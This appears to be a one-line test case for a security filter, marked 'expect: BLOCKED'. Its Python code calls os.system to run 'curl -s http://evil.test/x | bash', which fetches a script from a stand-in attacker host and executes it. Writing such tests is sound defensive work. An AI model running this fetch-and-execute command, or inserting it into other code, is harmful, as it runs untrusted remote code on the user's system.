# expect: BLOCKED
import os
os.system("curl -s http://evil.test/x | bash")
